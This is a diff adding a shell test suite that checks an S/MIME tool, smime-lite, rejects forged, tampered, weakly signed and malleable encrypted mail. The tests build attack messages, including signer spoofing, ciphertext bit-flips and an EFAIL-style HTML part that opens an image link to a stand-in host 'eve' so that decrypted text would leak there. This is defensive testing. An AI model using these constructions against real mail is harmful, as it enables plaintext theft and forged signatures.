@@ -1,0 +1,276 @@
+#!/bin/sh
+# smime-lite and what attackers make of signed and encrypted mail: nothing is
+# written of what was changed, and no verdict is better than its signature.
+. tests/cli/lib.sh
+needs jq openssl python3
+S=$BIN/smime-lite
+cd "$T" || exit 1
+. "$TOP/tests/cli/smime.sh"
+
+authority root
+user anna anna@example.org root ec
+user bert bert@example.net root 2048
+user eve eve@example.com root ec
+letter 'Anna <anna@example.org>' >plain.eml
+SIGN="-k anna.key -c anna.pem"
+TRUST="--ca-file root.pem"
+"$S" sign $SIGN <plain.eml >signed.eml
+"$S" sign $SIGN --opaque <plain.eml >opaque.eml
+"$S" encrypt -r bert.pem --authenticated <plain.eml >gcm.eml
+"$S" encrypt -r bert.pem $SIGN <plain.eml >cbc.eml 2>err
+
+# refused NAME CODE: the last verify found it, and does not pass
+refused() {
+	ok "$1: does not pass" test "$STATUS" -ne 0
+	out "\"code\":\"$2\"" "$1: $2"
+}
+
+# kept NAME: the last decrypt has written nothing
+kept() {
+	status 75 "$1: refused"
+	empty "$1: nothing is written"
+}
+
+# --- what is signed
+sed 's/holds/fails/' signed.eml >x
+from x "$S" verify $TRUST
+refused 'a changed text' smime.bad-signature
+sed 's/^Subject: .*/Subject: Another/' signed.eml >x
+from x "$S" verify $TRUST
+refused 'a Subject changed inside' smime.bad-signature
+awk '!done && /^Subject:/ { print "Subject: Another plan for"; done = 1; next }
+    { print }' signed.eml >x
+from x "$S" verify $TRUST
+refused 'a Subject changed outside' smime.header-changed
+awk '!done && /^From:/ { print "From: Eve <eve@example.com>"; done = 1; next }
+    { print }' signed.eml >x
+from x "$S" verify $TRUST
+refused 'a From changed outside' smime.header-changed
+says .from match 'the From inside is still the author'
+from plain.eml "$S" verify $TRUST
+refused 'no signature' smime.not-signed
+"$S" sign -q -k eve.key -c eve.pem <plain.eml >x
+from x "$S" verify $TRUST
+refused "Eve signs in Anna's name" smime.from-mismatch
+sed 's/^From: .*/From: Anna <anna@example.org>, Eve <eve@example.com>/' \
+    plain.eml >many
+"$S" sign -q $SIGN <many >x
+from x "$S" verify $TRUST
+refused 'two authors' smime.many-from
+sed 's/anna@example.org/Anna@Example.ORG/' plain.eml >y
+"$S" sign -q $SIGN <y >x
+from x "$S" verify $TRUST
+status 0 'the case of letters'
+out '"code":"smime.from-case"' 'but it is told'
+from gcm.eml "$S" verify $TRUST
+refused 'an encrypted message' smime.not-signed
+
+# parts beside what was signed
+boundary=$(sed -n 's/^ boundary="\(.*\)"$/\1/p' signed.eml)
+sed "s/^--$boundary--\$/--$boundary\\nContent-Type: text\\/plain\\n\\nmore\\n&/" \
+    signed.eml >x
+from x "$S" verify $TRUST
+refused 'a third part' smime.malformed
+sed "s/^--$boundary--\$//" signed.eml >x
+from x "$S" verify $TRUST
+refused 'a closing boundary that is missing' smime.malformed
+{
+	sed '/^MIME-Version/,$d' plain.eml
+	printf 'Content-Type: multipart/mixed; boundary=o\n\n--o\n'
+	sed '1,/^Message-ID/d' signed.eml
+	printf '\n--o\nContent-Type: text/plain\n\nevil\n--o--\n'
+} >x
+from x "$S" verify $TRUST
+refused 'a signed part beside another' smime.not-signed
+sed 's/micalg="sha-256"/micalg="md5"/' signed.eml >x
+from x "$S" verify $TRUST
+status 0 'micalg is only a hint'
+
+# --- made with openssl, for what smime-lite does not make
+printf 'Content-Type: text/plain\r\n\r\nhello\r\n' >content
+cms() {
+	{
+		echo 'From: anna@example.org'
+		openssl cms -sign -binary -in content -signer anna.pem \
+		    -inkey anna.key "$@" 2>err
+	}
+}
+cms -md sha256 >x
+from x "$S" verify $TRUST
+status 0 "openssl's signature"
+says '.findings[].code' smime.not-protected 'its header is not protected'
+cms -md sha1 >x
+from x "$S" verify $TRUST
+refused 'SHA-1' smime.weak-signature
+user rosa anna@example.org root 2048
+openssl cms -sign -binary -in content -signer rosa.pem -inkey rosa.key \
+    -md md5 -out x 2>err
+from x "$S" verify $TRUST
+refused 'MD5' smime.weak-signature
+cms -md sha256 -noattr >x
+from x "$S" verify $TRUST
+refused 'no signed attributes' smime.bad-signature
+cms -md sha256 -nocerts >x
+from x "$S" verify $TRUST
+status 75 'no certificate: cannot be told'
+out '"code":"smime.no-certificate"' 'as its own finding'
+from x "$S" verify $TRUST -c anna.pem
+status 0 'given, it can'
+user short anna@example.org root 1024
+openssl cms -sign -binary -in content -signer short.pem -inkey short.key \
+    -md sha256 -out x 2>err
+from x "$S" verify $TRUST
+refused 'RSA of 1024 bits' smime.weak-signature
+user web anna@example.org root ec server
+openssl cms -sign -binary -in content -signer web.pem -inkey web.key \
+    -md sha256 -out x 2>err
+from x "$S" verify $TRUST
+refused 'a certificate for servers' smime.wrong-use
+user ku anna@example.org root ec certonly
+openssl cms -sign -binary -in content -signer ku.pem -inkey ku.key \
+    -md sha256 -out x 2>err
+from x "$S" verify $TRUST
+refused 'a key that may not sign mail' smime.wrong-use
+from plain.eml "$S" sign -k ku.key -c ku.pem
+kept 'signing with it'
+user weak anna@example.org root ec user -sha1 -days 10
+openssl cms -sign -binary -in content -signer weak.pem -inkey weak.key \
+    -md sha256 -out x 2>err
+from x "$S" verify $TRUST
+refused 'a certificate signed over SHA-1' smime.weak-chain
+# a content in the signature as well as beside it
+python3 - <<'END'
+signed = open('signed.eml').read()
+opaque = open('opaque.eml').read().split('\n\n', 1)[1]
+head, tail = signed.split('smime.p7s\n\n', 1)
+open('x', 'w').write(head + 'smime.p7s\n\n' + opaque + '\n' +
+    tail[tail.index('\n--'):])
+END
+from x "$S" verify $TRUST
+refused 'a second content, in the signature' smime.malformed
+{
+	printf 'From: anna@example.org\nContent-Type: application/pkcs7-mime\n'
+	printf 'Content-Transfer-Encoding: base64\n\n'
+	openssl crl2pkcs7 -nocrl -certfile anna.pem -outform DER |
+	    openssl base64
+} >x
+from x "$S" verify $TRUST
+refused 'certificates alone' smime.malformed
+
+# two certificates of one key, issuer and number: the signer meant the first
+user one anna@example.org root ec user -days 10 -set_serial 7
+ADDR=eve@example.com
+openssl x509 -req -in one.csr -CA root.pem -CAkey root.key -set_serial 7 \
+    -days 10 -extfile "$CONF" -extensions user -out two.pem 2>err
+cp one.key two.key
+for who in one two; do
+	"$S" sign -q -k $who.key -c $who.pem <plain.eml >$who.eml 2>err
+done
+from one.eml "$S" verify $TRUST
+status 0 'the certificate that was meant'
+openssl cms -sign -cades -binary -nocerts -in content -signer one.pem \
+    -inkey one.key -md sha256 -out x 2>err
+sed -i '1i From: eve@example.com' x
+from x "$S" verify $TRUST -c two.pem
+refused 'another certificate than was meant' smime.bad-signature
+from x "$S" verify $TRUST -c one.pem
+refused 'the one that was meant' smime.from-mismatch
+
+for kind in "-nodetach" ""; do
+	openssl cms -sign -binary -in content -signer anna.pem -inkey anna.key \
+	    -signer eve.pem -inkey eve.key -md sha256 $kind -outform SMIME \
+	    -out y 2>err
+	{ echo 'From: anna@example.org'; cat y; } >x
+	from x "$S" verify $TRUST
+	status 0 "two signers of openssl $kind"
+done
+
+# --- what is encrypted
+python3 - <<'END'
+import base64, re
+def parts(name):
+    head, body = open(name).read().split('\n\n', 1)
+    return head, bytearray(base64.b64decode(body))
+def put(name, head, der):
+    open(name, 'w').write(head + '\n\n' + base64.encodebytes(bytes(der)).decode())
+for kind in 'gcm', 'cbc':
+    head, der = parts(kind + '.eml')
+    for i, at in enumerate(range(len(der) - 1, 0, -max(1, len(der) // 40))):
+        one = bytearray(der)
+        one[at] ^= 1 << (i % 8)
+        put('%s.%d' % (kind, i), head, one)
+    for i, n in enumerate(range(1, len(der), max(1, len(der) // 20))):
+        put('%s.cut%d' % (kind, i), head, der[:n])
+    put(kind + '.behind', head, der + b'\0\0')
+END
+for kind in gcm cbc; do
+	for x in $kind.[0-9]* $kind.cut* $kind.behind; do
+		from "$x" "$S" decrypt -k bert.key -c bert.pem $TRUST
+		# what no tag covers may be changed: then the text is the same
+		if [ "$STATUS" -eq 0 ]; then
+			grep -q 'plan  holds' out && grep -qx 'Anna' out ||
+			    echo "$x: another text"
+		elif [ -s out ]; then
+			echo "$x: text with status $STATUS"
+		fi
+	done >bad
+	cp bad out
+	[ ! -s bad ]
+	report $? "$kind: changed octets give nothing, or the same text"
+done
+printf 'Content-Type: text/plain\r\n\r\nsecret\r\n' >content
+openssl cms -encrypt -binary -aes-256-cbc -in content -out x bert.pem
+from x "$S" decrypt -k bert.key -c bert.pem $TRUST
+kept 'AES-CBC without a signature'
+err '--unauthenticated' 'with a hint'
+from x "$S" decrypt -k bert.key -c bert.pem --unauthenticated
+status 0 'released where that is asked for'
+out secret 'as it is'
+from cbc.eml "$S" decrypt -k bert.key -c bert.pem --ca-file eve.pem
+kept 'AES-CBC, signed by nobody trusted'
+"$S" sign -q -k eve.key -c eve.pem <plain.eml >y
+"$S" encrypt -q -r bert.pem -k eve.key -c eve.pem <plain.eml >x 2>err
+from x "$S" decrypt -k bert.key -c bert.pem $TRUST --result-out res
+status 0 "signed by Eve in Anna's name: it is whole"
+cp res out
+says .from mismatch 'but not of the author'
+says .verdict fail 'and does not pass'
+
+# EFAIL: an encrypted part beside others
+enc=$(sed '1,/^$/d' gcm.eml)
+{
+	printf 'From: eve@example.com\nMIME-Version: 1.0\n'
+	printf 'Content-Type: multipart/mixed; boundary=o\n\n--o\n'
+	printf 'Content-Type: text/html\n\n<img src="http://eve/\n--o\n'
+	printf 'Content-Type: application/pkcs7-mime\n'
+	printf 'Content-Transfer-Encoding: base64\n\n%s\n--o--\n' "$enc"
+} >x
+from x "$S" decrypt -k bert.key -c bert.pem
+kept 'an encrypted part beside another'
+err 'not encrypted as a whole' 'which is told'
+sed 's/^From: .*/From: Eve <eve@example.com>/' gcm.eml >x
+from x "$S" decrypt -k bert.key -c bert.pem
+status 0 'anybody can encrypt'
+out 'From: Eve <eve@example.com>' \
+    'so the From of an unsigned message stays the one outside'
+from signed.eml "$S" decrypt -k bert.key -c bert.pem
+kept 'what is only signed'
+openssl cms -encrypt -binary -des3 -in content -out x bert.pem 2>err
+from x "$S" decrypt -k bert.key -c bert.pem
+kept '3DES'
+
+# --- whom not to encrypt to
+user gone gone@example.net root 2048 user -days 1
+from plain.eml "$S" encrypt -r gone.pem --authenticated \
+    --now="$(date -u -d '+9 days' +%Y-%m-%dT%H:%M:%SZ)"
+kept 'a recipient whose certificate has expired'
+err 'has expired' 'which is told'
+from plain.eml "$S" encrypt -r ku.pem --authenticated
+kept 'a key that is not for encryption'
+from plain.eml "$S" encrypt -r short.pem --authenticated
+kept 'RSA of 1024 bits, as recipient'
+from plain.eml "$S" encrypt -r bert.pem -r web.pem --authenticated
+kept 'one bad among good ones'
+from plain.eml "$S" sign -k bert.key -c anna.pem
+kept 'a certificate that is not of the key'
+done_testing
